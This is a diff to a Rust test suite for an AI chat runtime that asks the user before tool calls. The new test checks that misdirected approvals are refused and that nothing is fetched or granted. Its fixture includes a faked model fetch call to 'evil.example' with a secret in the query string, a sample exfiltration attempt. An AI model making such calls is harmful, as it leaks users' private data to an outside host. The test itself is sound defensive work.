@@ -112,6 +112,35 @@ fn a_made_up_url_waits_for_the_user_and_a_denial_goes_back_to_the_model() {
 }
 
 #[wasm_bindgen_test(unsupported = test)]
+fn an_approval_for_a_call_that_is_not_waiting_is_refused_and_changes_nothing() {
+    let transport = FakeTransport::default();
+    let mut rt = runtime(&transport, ProviderId::OpenAi);
+    fetch_call(&transport, "call_f", "https://evil.example/?q=my+secret");
+    send(&mut rt, "s", "What's new?");
+    // Another chat's session, a call id never asked about, an empty one: refused, no grant.
+    for (session, call) in [("other", "call_f"), ("s", "call_x"), ("s", "")] {
+        let events = decide(&mut rt, session, call, Decision::AlwaysAllow);
+        assert!(
+            matches!(
+                &events[..],
+                [Event::Error {
+                    kind: ErrorKind::InvalidRequest,
+                    ..
+                }]
+            ),
+            "{session}/{call}: {events:?}"
+        );
+    }
+    assert_eq!(fetches(&transport), 0, "nothing was fetched");
+    assert!(rt.settings.always_allow.is_empty(), "no grant was kept");
+    // The real call still waits, and the user's own answer still counts.
+    answer(&transport, "I won't fetch it.");
+    let events = decide(&mut rt, "s", "call_f", Decision::Deny);
+    assert_eq!(finished(&events), Some(false));
+    assert_eq!(fetches(&transport), 0);
+}
+
+#[wasm_bindgen_test(unsupported = test)]
 fn allow_once_fetches_and_a_url_the_user_wrote_needs_no_asking() {
     let transport = FakeTransport::default();
     let mut rt = runtime(&transport, ProviderId::OpenAi);
